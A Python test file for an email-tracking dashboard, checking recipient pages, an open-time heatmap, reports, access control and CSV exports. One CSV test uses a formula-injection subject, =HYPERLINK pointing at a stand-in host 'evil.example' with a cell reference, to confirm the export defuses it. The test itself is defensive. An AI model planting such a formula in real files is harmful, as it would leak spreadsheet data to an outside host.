"""The dashboard's recipients, best time to send, reports and CSV exports."""
from __future__ import annotations

import csv
import io
import re
import subprocess
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import insert, select, update

from telltale.dashboard import reports as report_pages
from telltale.dashboard.best_time import MIN_OPENS
from telltale.store.models import Event, Message, User

from .helpers import make_user, path_of, register, sign_in, user_id

GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
ROOT = Path(__file__).resolve().parents[2]
PAGES = ("/app/recipients", "/app/recipients/bo@example.test", "/app/best-time", "/app/reports",
         "/app/export/messages.csv", "/app/export/events.csv")


def set_zone(services, email: str, zone: str) -> None:
    with services.sessions.begin() as db:
        db.execute(update(User).where(User.email == email).values(timezone=zone, timezone_set=True))


def add_message(services, email: str, recipients=("bo@example.test",), subject="Seeded", sent_at=None) -> int:
    sent_at = sent_at or datetime.now(UTC) - timedelta(days=1)
    with services.sessions.begin() as db:
        message = Message(user_id=user_id(services, email), subject=subject, recipients=list(recipients),
                          sent_at=sent_at, created_at=sent_at, opens=0, clicks=0, replies=0)
        db.add(message)
        db.flush()
        return message.id


def add_opens(services, message_id: int, at: datetime, n: int, *, source="person", zone=None, repeat=False,
              recipient=None) -> None:
    rows = [{"id": uuid.uuid4().hex, "message_id": message_id, "kind": "open", "occurred_at": at,
             "source": source, "timezone": zone, "repeat": repeat, "ip": "203.0.113.0", "recipient": recipient}
            for _ in range(n)]
    with services.sessions.begin() as db:
        db.execute(insert(Event), rows)


def heatmap_cells(page: str) -> dict[tuple[str, int], int]:
    """(weekday, hour) -> the count the heatmap table shows."""
    table = re.search(r'<table class="heatmap">(.*?)</table>', page, re.S)[1]
    cells = {}
    for day, row in re.findall(r'<th scope="row">(\w+)</th>(.*?)</tr>', table, re.S):
        for hour, count in enumerate(re.findall(r'<td class="heat-\d">(\d+)</td>', row)):
            cells[(day, hour)] = int(count)
    return cells


def test_every_new_page_needs_sign_in(client, ana):
    for page in PAGES:
        response = client.get(page)
        assert response.status_code == 303 and "/app/signin" in response.location, page


def test_a_report_counts_a_person_once_and_sets_a_repeat_and_a_crawler_apart(client, services, links, ana, drain):
    message = register(client, ana, subject="Lunch?")
    pixel = path_of(message["pixel_url"])
    client.get(pixel, environ_base={"REMOTE_ADDR": "198.51.100.23"})
    client.get(pixel, environ_base={"REMOTE_ADDR": "198.51.100.23"})  # the same client again within seconds
    client.get(pixel, headers={"User-Agent": GOOGLEBOT}, environ_base={"REMOTE_ADDR": "66.249.66.1"})
    drain()
    sign_in(client, services, links)
    page = client.get("/app/reports").data.decode()
    assert re.search(r'<th scope="row">Opened</th><td class="num">1</td><td class="num">100.0 %</td>', page)
    assert re.search(r'<th scope="row">Clicked</th><td class="num">0</td>', page)
    assert "1 machine event (" in page and "1 repeat and 0 views of your own" in page
    today = datetime.now(UTC).date().isoformat()
    assert re.search(rf'<time datetime="{today}">{today}</time></th><td class="num">1</td>', page)
    assert "198.51.100" not in page and "66.249" not in page


def test_the_heatmap_counts_peoples_opens_in_the_readers_zone_and_leaves_machines_out(client, services, links, ana):
    set_zone(services, "ana@example.test", "Europe/Madrid")
    message = add_message(services, "ana@example.test")
    monday_late = datetime(2026, 11, 30, 23, 30, tzinfo=UTC)  # a Monday: Tuesday 08:30 in Tokyo
    add_opens(services, message, monday_late, MIN_OPENS, zone="Asia/Tokyo")
    for source in ("proxy", "prefetch", "crawler"):
        add_opens(services, message, monday_late, 5, source=source)
    add_opens(services, message, monday_late, 4, zone="Asia/Tokyo", repeat=True)
    # Daylight saving: 13:00 UTC is 09:00 in New York in July, 08:00 in January.
    add_opens(services, message, datetime(2026, 7, 15, 13, tzinfo=UTC), 2, zone="America/New_York")
    add_opens(services, message, datetime(2026, 1, 14, 13, tzinfo=UTC), 3, zone="America/New_York")
    # No zone of its own: the user's (Madrid, UTC+1 in winter).
    add_opens(services, message, datetime(2026, 12, 1, 9, tzinfo=UTC), 1)
    sign_in(client, services, links)
    page = client.get("/app/best-time").data.decode()
    cells = heatmap_cells(page)
    assert cells[("Tuesday", 8)] == MIN_OPENS and cells[("Monday", 23)] == 0
    assert cells[("Wednesday", 9)] == 2 and cells[("Wednesday", 8)] == 3
    assert cells[("Tuesday", 10)] == 1
    assert sum(cells.values()) == MIN_OPENS + 6
    assert f"Based on <strong>{MIN_OPENS + 6}</strong> opens" in page
    assert "Busiest:\nTuesday 08:00–09:00 (20 opens)" in page


def test_below_the_minimum_the_heatmap_says_there_is_not_enough_data(client, services, links, ana):
    message = add_message(services, "ana@example.test")
    add_opens(services, message, datetime(2026, 11, 30, 9, tzinfo=UTC), MIN_OPENS - 1)
    add_opens(services, message, datetime(2026, 11, 30, 9, tzinfo=UTC), 50, source="proxy")
    sign_in(client, services, links)
    page = client.get("/app/best-time").data.decode()
    assert "Not enough data yet:" in page and f"{MIN_OPENS - 1} opens by people so far" in page
    assert f"at least {MIN_OPENS}" in page and 'class="heatmap"' not in page


def test_recipients_show_what_each_did_and_their_page_lists_their_messages(client, services, links, ana, drain):
    to_bo = [register(client, ana, subject=f"For Bo {i}", recipients=["Bo@Example.test"]) for i in range(3)]
    register(client, ana, subject="For Cy", recipients=["cy@example.test"])
    for message in to_bo:
        client.get(path_of(message["pixel_url"]))
    drain()
    sign_in(client, services, links)
    page = client.get("/app/recipients").data.decode()
    rows = dict(re.findall(r'/app/recipients/([^?"]+)\?days=30">[^<]+</a></td>\s*<td class="num">(\d+)</td>', page))
    assert rows == {"bo@example.test": "3", "cy@example.test": "1"}
    assert "opened 3 of your last 3 messages" in page
    detail = client.get("/app/recipients/bo@example.test").data.decode()
    listed = re.findall(r'/app/messages/(\d+)">([^<]+)</a>', detail)
    assert sorted(subject for _, subject in listed) == ["For Bo 0", "For Bo 1", "For Bo 2"]
    assert {int(i) for i, _ in listed} == {m["id"] for m in to_bo}
    assert "Not enough data yet:" in detail and "3 opens by people so far" in detail


def test_a_recipients_heatmap_has_only_the_opens_that_are_theirs(client, services, links, ana):
    monday_nine = datetime(2026, 11, 30, 9, tzinfo=UTC)
    shared = add_message(services, "ana@example.test", recipients=["cy@example.test", "Bo@example.test"])
    alone = add_message(services, "ana@example.test", recipients=["bo@example.test"])
    other = add_message(services, "ana@example.test", recipients=["di@example.test"])
    add_opens(services, shared, monday_nine, 15, recipient=1)  # Bo's own pixel
    add_opens(services, shared, monday_nine + timedelta(hours=1), 6, recipient=0)  # Cy's
    add_opens(services, shared, monday_nine + timedelta(hours=2), 7)  # the shared pixel: nobody's in particular
    add_opens(services, alone, monday_nine + timedelta(hours=3), 5)  # sent to Bo alone: Bo's
    add_opens(services, other, monday_nine, 30)
    sign_in(client, services, links)
    cells = heatmap_cells(client.get("/app/recipients/bo@example.test").data.decode())
    assert cells[("Monday", 9)] == 15 and cells[("Monday", 12)] == 5 and sum(cells.values()) == 20
    cy = client.get("/app/recipients/cy@example.test").data.decode()
    assert "6 opens by people so far" in cy


def test_recipients_sort_by_a_column_and_page(client, services, links, ana):
    sent = datetime.now(UTC) - timedelta(days=1)
    ids = {i: add_message(services, "ana@example.test", recipients=[f"r{i:02}@example.test"], sent_at=sent)
           for i in range(55)}
    for _ in range(2):
        add_message(services, "ana@example.test", recipients=["r07@example.test"])
    add_opens(services, ids[30], sent + timedelta(hours=5), 1)
    add_opens(services, ids[40], sent + timedelta(hours=1), 1)
    sign_in(client, services, links)

    def addresses(**args) -> list[str]:
        page = client.get("/app/recipients", query_string=args)
        assert page.status_code == 200
        return re.findall(r'/app/recipients/([^?"]+)\?', page.data.decode())

    first = addresses()
    assert first[0] == "r07@example.test" and len(first) == 50
    assert addresses(sort="address", order="asc")[:3] == ["r00@example.test", "r01@example.test", "r02@example.test"]
    assert addresses(sort="address", order="desc")[0] == "r54@example.test"
    assert len(addresses(page=2)) == 5
    # Never opened: no time to first open, so last whichever the order.
    assert addresses(sort="first_open")[:3] == ["r40@example.test", "r30@example.test", "r00@example.test"]
    assert addresses(sort="first_open", order="desc")[:3] == ["r30@example.test", "r40@example.test",
                                                              "r00@example.test"]
    assert client.get("/app/recipients", query_string={"sort": "ip"}).status_code == 400


def test_an_open_in_the_second_of_sending_counts_on_the_recipients_page_as_in_the_api(client, services, links, ana):
    # Bo's own pixel opened the first message the second it went, and the shared pixel the second one an
    # hour later: his own open is the one that says when he read it, however short the delay.
    sent = (datetime.now(UTC) - timedelta(days=2)).replace(microsecond=0)
    first, second, _ = [add_message(services, "ana@example.test", sent_at=sent) for _ in range(3)]
    add_opens(services, first, sent, 1, recipient=0)
    add_opens(services, second, sent, 1, recipient=0)
    add_opens(services, second, sent + timedelta(hours=1), 1)
    api = client.get("/api/v1/recipients/bo@example.test", headers=ana).json
    assert (api["sent"], api["opened"], api["median_first_open_seconds"]) == (3, 2, 0)
    sign_in(client, services, links)
    page = client.get("/app/recipients").data.decode()
    row = re.search(r'/app/recipients/bo@example.test\?days=30">[^<]+</a></td>\s*<td class="num">(\d+)</td>'
                    r'<td class="num">(\d+)</td>(?:<td class="num">\d+</td>){2}\s*<td class="num">([^<]+)</td>', page)
    assert row.groups() == ("3", "2", "under a minute")
    assert "opened 2 of your last 3 messages" in page


def test_another_users_recipient_pages_show_nothing_of_the_first_users(client, services, links, ana, drain):
    message = register(client, ana, subject="Ana's secret plan", recipients=["bo@example.test"])
    client.get(path_of(message["pixel_url"]))
    drain()
    make_user(services, "cy@example.test")
    sign_in(client, services, links, "cy@example.test")
    assert client.get("/app/recipients/bo@example.test").status_code == 404
    for page in ("/app/recipients", "/app/best-time", "/app/reports"):
        shown = client.get(page).data.decode()
        assert "bo@example.test" not in shown and "secret plan" not in shown
    assert "Not enough data yet:</strong> 0 opens" in client.get("/app/best-time").data.decode()


def test_the_csv_exports_stream_the_users_own_rows_without_addresses_and_defuse_formulas(client, services, links, ana,
                                                                                         drain):
    mine = register(client, ana, subject='=HYPERLINK("http://evil.example?"&A1)', recipients=["bo@example.test"],
                    tags=["sales", "q3"])
    client.get(path_of(mine["pixel_url"]), environ_base={"REMOTE_ADDR": "198.51.100.23"})
    bo, _ = make_user(services, "bo@example.test")
    theirs = register(client, bo, subject="Bo's own", recipients=["di@example.test"])
    client.get(path_of(theirs["pixel_url"]))
    drain()
    sign_in(client, services, links)

    messages = client.get("/app/export/messages.csv")
    assert messages.is_streamed and messages.mimetype == "text/csv"
    assert 'filename="messages.csv"' in messages.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(messages.get_data(as_text=True))))
    assert [row["subject"] for row in rows] == ["'=HYPERLINK(\"http://evil.example?\"&A1)"]
    assert rows[0]["opens"] == "1" and rows[0]["state"] == "opened"
    assert sorted(rows[0]["tags"].split(", ")) == ["q3", "sales"]

    events = client.get("/app/export/events.csv")
    assert events.is_streamed
    text = events.get_data(as_text=True)
    header = text.splitlines()[0].split(",")
    assert "ip" not in header and "user_agent" not in header and header[0] == "message_id"
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(row["message_id"], row["kind"], row["counted"]) for row in rows] == [(str(mine["id"]), "open", "True")]
    with services.sessions() as db:
        addresses = {ip for ip in db.scalars(select(Event.ip)) if ip}
    assert addresses and not any(address in text for address in addresses)


def test_an_export_given_up_half_way_lets_go_of_its_rows(client, services, links, ana):
    message = add_message(services, "ana@example.test")
    add_opens(services, message, datetime(2026, 11, 30, 9, tzinfo=UTC), 3)
    sign_in(client, services, links)
    with client.get("/app/export/events.csv") as response:
        rows = iter(response.response)
        assert next(rows).startswith(b"message_id,") and next(rows).startswith(str(message).encode())
    # Closed before the end: a cursor left open would be reported as the test ends (warnings are errors).


def test_an_export_takes_the_reports_period(client, services, links, ana):
    old = add_message(services, "ana@example.test", subject="Old", sent_at=datetime(2026, 1, 10, 12, tzinfo=UTC))
    add_message(services, "ana@example.test", subject="New", sent_at=datetime(2026, 3, 10, 12, tzinfo=UTC))
    add_opens(services, old, datetime(2026, 1, 11, 12, tzinfo=UTC), 1)
    sign_in(client, services, links)
    period = {"since": "2026-01-01", "until": "2026-01-31"}
    messages = client.get("/app/export/messages.csv", query_string=period).get_data(as_text=True)
    assert [row["subject"] for row in csv.DictReader(io.StringIO(messages))] == ["Old"]
    events = client.get("/app/export/events.csv", query_string={"since": "2026-02-01"}).get_data(as_text=True)
    assert list(csv.DictReader(io.StringIO(events))) == []


def test_a_bad_period_gets_a_clear_error(client, services, links, ana):
    sign_in(client, services, links)
    for args, words in (({"since": "2026-02-01", "until": "2026-01-01"}, b"after it ends"),
                        ({"since": "2024-01-01", "until": "2026-01-01"}, b"at most 366 days"),
                        ({"until": "soon"}, b"a date like")):
        page = client.get("/app/reports", query_string=args)
        assert page.status_code == 400 and words in page.data
    assert client.get("/app/export/events.csv", query_string={"since": "x"}).status_code == 400


def test_the_report_carries_its_chart_data_as_json_and_loads_only_its_own_script(client, services, links, ana,
                                                                                  monkeypatch, tmp_path):
    bundle = tmp_path / "charts.js"
    bundle.write_text("/* built */")
    monkeypatch.setattr(report_pages, "BUNDLE", bundle)
    sign_in(client, services, links)
    response = client.get("/app/reports", query_string={"since": "2026-11-01", "until": "2026-11-07"})
    page = response.data.decode()
    assert "script-src 'self'" in response.headers["Content-Security-Policy"]
    data = re.search(r'<script type="application/json" id="chart-data">(.*?)</script>', page, re.S)[1]
    assert '"opensPerDay"' in data and '"2026-11-07"' in data
    scripts = re.findall(r"<script[^>]*>", page)
    assert scripts == ['<script type="application/json" id="chart-data">',
                       '<script src="/app/static/dist/charts.js" defer>']
    assert "Charts are unavailable" not in page


def test_without_the_chart_bundle_the_report_says_so_and_keeps_its_tables(client, services, links, ana, monkeypatch,
                                                                          tmp_path):
    monkeypatch.setattr(report_pages, "BUNDLE", tmp_path / "not-built.js")
    sign_in(client, services, links)
    page = client.get("/app/reports").data.decode()
    assert "Charts are unavailable" in page and "<script" not in page
    assert "Opens on each day" in page and "Time to first open" in page


def test_the_build_bundles_the_chart_library(tmp_path):
    out = tmp_path / "dist"
    done = subprocess.run(["node", "build.mjs", "--dashboard-out", str(out)], cwd=ROOT / "extension",
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    script, style = (out / "charts.js").read_text(), (out / "charts.css").read_text()
    assert len(script) > 20_000 and "chart-data" in script and ".uplot" in style
